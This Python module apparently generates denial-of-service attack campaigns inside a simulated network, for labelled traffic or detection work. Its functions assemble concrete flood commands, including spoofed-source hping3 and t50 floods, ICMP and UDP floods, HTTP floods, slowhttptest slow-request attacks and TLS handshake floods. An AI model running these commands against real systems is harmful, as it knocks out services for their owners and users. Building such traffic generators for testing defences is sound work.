"""Floods and exhaustion from one source."""

from shlex import quote

from attacks.aim import aim, flags_pass, has_ipv6
from attacks.attack import Campaign, attack
from attacks.steps import program, tool
from attacks.words import agent

_TCP_PORTS = {"web": (80, 443), "files": (21, 22), "db": (22, 6379), "infra": (25, 53)}


def _campaign(aimed, steps, rule, least=500):
    return Campaign(tuple(steps), (rule,), (aimed.source,), (aimed.seen,), least_packets=least)


def _pace(chance, fastest=700):
    """Options of hping3 for a rate and a number of packets, of at most 30 seconds."""
    rate = chance.randint(150, fastest)
    return ("-i", f"u{1_000_000 // rate}", "-c", chance.randint(rate * 5, min(12_000, rate * 30)))


def _hping(chance, aimed, *options):
    words = ("hping3", "-q", "-n", "-a", aimed.source, *options, *_pace(chance), aimed.at)
    return tool(aimed.actor, *words, seconds=56, good=(0, 1))


@attack("dos", "SYNFlood", "hping3", "syn")
def syn_flood(chance, world):
    aimed = aim(chance, world)
    port = chance.choice(_TCP_PORTS[aimed.target.name])
    options = ["-S", "-p", port]
    if chance.random() < 0.3:
        options += ["-s", chance.randint(1024, 40000)]
    if chance.random() < 0.3:
        options += ["-d", chance.randint(20, 200)]
    if chance.random() < 0.3:
        options += ["-w", chance.choice((64, 512, 8192))]
    return _campaign(aimed, [_hping(chance, aimed, *options)], aimed.rule(port, "tcp"))


@attack("dos", "SYNFlood", "hping3", "odd-flags")
def flag_flood(chance, world):
    """ACK, RST or FIN without a connection."""
    aimed = aim(chance, world, actors=flags_pass(world))
    port = chance.choice(_TCP_PORTS[aimed.target.name])
    flags = chance.choice((("-A",), ("-R",), ("-F",), ("-A", "-P"), ("-S", "-A"), ("-F", "-S", "-R", "-P", "-A", "-U")))
    return _campaign(aimed, [_hping(chance, aimed, *flags, "-p", port)], aimed.rule(port, "tcp"))


@attack("dos", "UDPFlood", "hping3", "udp")
def udp_flood(chance, world):
    aimed = aim(chance, world)
    port = chance.choice((53, 123, 161, 443, 5000, 5060, chance.randint(1024, 65000)))
    step = _hping(chance, aimed, "--udp", "-p", port, "-d", chance.choice((0, 32, 200, 512, 1000, 1400)))
    return _campaign(aimed, [step], aimed.rule(port, "udp"))


@attack("dos", "UDPFlood", "hping3", "udp-ports")
def udp_port_flood(chance, world):
    """The port increases with each packet."""
    aimed = aim(chance, world)
    step = _hping(chance, aimed, "--udp", "-p", f"++{chance.randint(1, 30000)}", "-d", chance.randint(16, 900))
    return _campaign(aimed, [step], aimed.rule(proto="udp"))


@attack("dos", "ICMPFlood", "hping3", "icmp")
def icmp_flood(chance, world):
    aimed = aim(chance, world)
    step = _hping(chance, aimed, "--icmp", "-d", chance.choice((8, 56, 64, 500, 1200)))
    return _campaign(aimed, [step], aimed.rule(proto="icmp"))


@attack("dos", "ICMPFlood", "fping", "icmp")
def ping_flood(chance, world):
    aimed = aim(chance, world)
    rate = chance.randint(150, 800)
    words = ["fping", "-q", "-S", aimed.source, "-C", rate * chance.randint(6, 25), "-p", max(1, 1000 // rate), "-i", 1]
    words += ["-b", chance.choice((12, 56, 600, 1400)), "-t", 500, aimed.at]
    return _campaign(aimed, [tool(aimed.actor, *words, seconds=56, good=(0, 1, None))], aimed.rule(proto="icmp"))


@attack("dos", "ICMPFlood", "ping", "icmp-large")
def large_ping_flood(chance, world):
    """Echo requests in fragments, at most 600 of these a second."""
    aimed = aim(chance, world)
    size = chance.choice((2000, 4000, 8000))
    rate = chance.randint(20, 600 // (size // 1480 + 1))
    words = ["ping", "-q", "-n", "-I", aimed.source, "-i", round(1 / rate, 4), "-c", rate * chance.randint(6, 15)]
    words += ["-s", size, aimed.at]
    return _campaign(aimed, [tool(aimed.actor, *words, seconds=56, good=(0, 1, None))], aimed.rule(proto="icmp"), 200)


@attack("dos", "HTTPFlood", "ab", "http")
def http_flood(chance, world):
    """ab knows no rate: bursts with pauses, at most about a hundred requests a second."""
    aimed = aim(chance, world, ("web",), first=True)
    page = chance.choice(("/", "/app/slow", "/app/search?q=a", "/app/item?id=7", "/app/"))
    tls = chance.random() < 0.3
    burst = chance.randint(30, 60)
    words = ["ab", "-q", "-r", "-s", 10, "-n", burst, "-c", chance.randint(5, 40)]
    if chance.random() < 0.4:
        words.append("-k")
    words += ["-H", f"User-Agent: {agent(chance)}", f"{'https' if tls else 'http'}://{aimed.at}{page}"]
    line = " ".join(quote(str(word)) for word in words)
    pause = round(burst / 100 + chance.uniform(0, 1), 2)
    loop = f"i=0; while [ $i -lt {chance.randint(6, 14)} ]; do {line} >/dev/null || exit 1; sleep {pause}; i=$((i + 1)); done"
    step = tool(aimed.actor, "sh", "-c", loop, seconds=55, good=(0, None))
    return _campaign(aimed, [step], aimed.rule(443 if tls else 80, "tcp"))


@attack("dos", "SlowHTTP", "slowhttptest", "slow-headers")
def slow_headers(chance, world):
    return _slow(chance, world, "-H", "/", "-i", chance.randint(3, 12), "-x", chance.randint(8, 60))


@attack("dos", "SlowHTTP", "slowhttptest", "slow-body")
def slow_body(chance, world):
    how = ("-i", chance.randint(3, 12), "-s", chance.choice((4096, 8192, 65536)), "-x", chance.randint(6, 40))
    return _slow(chance, world, "-B", "/app/comment", *how)


@attack("dos", "SlowHTTP", "slowhttptest", "slow-read")
def slow_read(chance, world):
    how = ("-w", chance.randint(10, 64), "-y", chance.randint(65, 256), "-n", chance.randint(2, 6), "-z", 32)
    return _slow(chance, world, "-X", "/", *how, "-k", chance.randint(1, 3))


def _slow(chance, world, kind, page, *how):
    aimed = aim(chance, world, ("web",), first=True)
    tls = chance.random() < 0.25
    words = ("slowhttptest", kind, "-c", chance.randint(60, 200), "-r", chance.randint(10, 40), *how)
    words += (
        "-l",
        chance.randint(25, 45),
        "-p",
        chance.randint(2, 5),
        "-u",
        f"{'https' if tls else 'http'}://{aimed.at}{page}",
    )
    step = tool(aimed.actor, *words, seconds=56, good=(0, 1, None))
    return _campaign(aimed, [step], aimed.rule(443 if tls else 80, "tcp"), 200)


@attack("dos", "SlowHTTP", "slowhttptest", "slow-long", seconds=2400, slow=True)
def slow_headers_for_long(chance, world):
    """Few connections, each kept for as long as the server lets it."""
    aimed = aim(chance, world, ("web",), first=True)
    words = ("slowhttptest", "-H", "-c", chance.randint(15, 40), "-r", 1, "-i", chance.randint(10, 25), "-x", 24)
    words += ("-l", chance.randint(500, 1500), "-p", 5, "-u", f"http://{aimed.at}/")
    return _campaign(aimed, [tool(aimed.actor, *words, seconds=2390, good=(0, 1, None))], aimed.rule(80, "tcp"), 200)


@attack("dos", "ConnectionFlood", "hold-connections", "held")
def connection_exhaustion(chance, world):
    """Opens connections and keeps them, saying nothing or a byte now and then."""
    aimed = aim(chance, world)
    port = chance.choice(_TCP_PORTS[aimed.target.name])
    words = ("--source", aimed.source, "--target", aimed.at, "--port", port, "--connections", chance.randint(150, 600))
    words += (
        "--rate",
        chance.randint(15, 120),
        "--seconds",
        chance.randint(15, 40),
        "--seed",
        chance.randrange(1 << 30),
    )
    if chance.random() < 0.5:
        words += ("--drip", chance.randint(2, 8))
    return _campaign(
        aimed, [program(aimed.actor, "hold_connections", *words, seconds=56)], aimed.rule(port, "tcp"), 300
    )


@attack("dos", "TLSFlood", "handshakes", "tls")
def tls_handshakes(chance, world):
    """Many handshakes, each dear for the server, and nothing after them."""
    aimed = aim(chance, world, ("web",))
    words = ("--source", aimed.source, "--target", aimed.at, "--rate", chance.randint(10, 60), "--threads", 4)
    words += ("--seconds", chance.randint(10, 35), "--seed", chance.randrange(1 << 30))
    return _campaign(aimed, [program(aimed.actor, "handshakes", *words, seconds=56)], aimed.rule(443, "tcp"), 300)


@attack("dos", "SYNFlood", "raw-syn", "syn-ipv6", fits=has_ipv6)
def syn_flood_ipv6(chance, world):
    aimed = aim(chance, world, ("web", "files", "db"), ipv6=True)
    port = chance.choice(_TCP_PORTS[aimed.target.name])
    rate = chance.randint(100, 700)
    words = ("--source", aimed.source, "--target", aimed.at, "--port", port, "--rate", rate)
    words += ("--count", rate * chance.randint(6, 20), "--seed", chance.randrange(1 << 30))
    return _campaign(aimed, [program(aimed.actor, "raw_syn", *words, seconds=56)], aimed.rule(port, "tcp"))


@attack("dos", "SYNFlood", "t50", "syn")
def t50_syn(chance, world):
    aimed = aim(chance, world, actors=flags_pass(world))
    port = chance.choice(_TCP_PORTS[aimed.target.name])
    return _bursts(chance, aimed, aimed.rule(port, "tcp"), "--protocol", "TCP", "-S", "--dport", port)


@attack("dos", "UDPFlood", "t50", "udp")
def t50_udp(chance, world):
    aimed = aim(chance, world, actors=flags_pass(world))
    port = chance.choice((53, 123, 5000, chance.randint(1024, 65000)))
    return _bursts(chance, aimed, aimed.rule(port, "udp"), "--protocol", "UDP", "--dport", port)


@attack("dos", "ICMPFlood", "t50", "icmp")
def t50_icmp(chance, world):
    aimed = aim(chance, world, actors=flags_pass(world))
    return _bursts(chance, aimed, aimed.rule(proto="icmp"), "--protocol", "ICMP")


def _bursts(chance, aimed, rule, *options):
    """t50 knows no rate: short bursts with pauses. Its checksums are wrong."""
    burst = chance.randint(100, 600)
    pause = round(max(0.2, burst / 1300) + chance.uniform(0, 0.5), 2)
    times = chance.randint(10, 25)
    line = " ".join(map(quote, map(str, ("t50", aimed.at, "-s", aimed.source, "--threshold", burst, *options))))
    loop = f"i=0; while [ $i -lt {times} ]; do {line} >/dev/null || exit 1; sleep {pause}; i=$((i + 1)); done"
    return _campaign(aimed, [tool(aimed.actor, "sh", "-c", loop, seconds=56)], rule)


@attack("dos", "HTTPFlood", "wrk", "http")
def wrk_flood(chance, world):
    aimed = aim(chance, world, ("web",), first=True)
    tls = chance.random() < 0.3
    page = "/app/slow"
    words = ("wrk", "-t", 1, "-c", chance.randint(2, 20), "-d", f"{chance.randint(8, 20)}s", "--timeout", "5s")
    step = tool(aimed.actor, *words, f"{'https' if tls else 'http'}://{aimed.at}{page}", seconds=50)
    return _campaign(aimed, [step], aimed.rule(443 if tls else 80, "tcp"))


@attack("dos", "HTTPFlood", "siege", "http")
def siege_flood(chance, world):
    aimed = aim(chance, world, ("web",), first=True)
    page = chance.choice(("/app/", "/app/search?q=chair", "/app/slow"))
    words = ("siege", "-q", "-c", chance.randint(4, 14), "-d", round(chance.uniform(0.3, 1), 2), "-t")
    step = tool(
        aimed.actor, *words, f"{chance.randint(10, 30)}S", f"http://{aimed.at}{page}", seconds=50, good=(0, None)
    )
    return _campaign(aimed, [step], aimed.rule(80, "tcp"), 300)


@attack("dos", "HTTPFlood", "httperf", "http")
def httperf_flood(chance, world):
    aimed = aim(chance, world, ("web",), first=True)
    rate = chance.randint(15, 70)
    words = (
        "httperf",
        "--hog",
        "--server",
        aimed.at,
        "--port",
        80,
        "--uri",
        chance.choice(("/app/", "/", "/app/status")),
    )
    words += (
        "--rate",
        rate,
        "--num-conns",
        rate * chance.randint(8, 25),
        "--num-calls",
        chance.randint(1, 3),
        "--timeout",
        5,
    )
    return _campaign(aimed, [tool(aimed.actor, *words, seconds=56, good=(0, None))], aimed.rule(80, "tcp"))
